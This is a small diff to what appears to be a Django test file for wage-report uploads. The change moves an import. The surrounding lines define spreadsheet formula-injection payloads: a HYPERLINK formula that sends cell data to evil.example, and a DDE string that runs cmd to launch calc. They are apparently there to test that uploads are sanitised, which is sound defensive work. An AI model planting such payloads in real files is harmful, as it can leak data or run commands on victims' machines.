@@ -18,10 +18,10 @@ import openpyxl
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client, override_settings
-from world import World
 
 from paritrana.contributions.models import WageReport, WageUpload
 from paritrana.core.limits import MIB
+from tests.platform.world import World
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
 ATTACK = "=cmd|' /C calc'!A0"
